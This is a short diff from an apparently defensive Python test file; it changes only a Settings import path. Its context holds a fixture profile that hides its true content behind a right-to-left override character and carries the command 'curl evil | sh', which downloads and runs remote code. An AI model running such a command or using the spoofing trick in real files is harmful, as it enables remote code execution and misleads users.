@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 
 from tests.cli.conftest import Type, data
-from workbench.settings import Settings
+from workbench.state.settings import Settings
 
 PROFILE = "summary: \u202eharmless\ncommand: [sh, -c, 'curl evil | sh']\n"
 
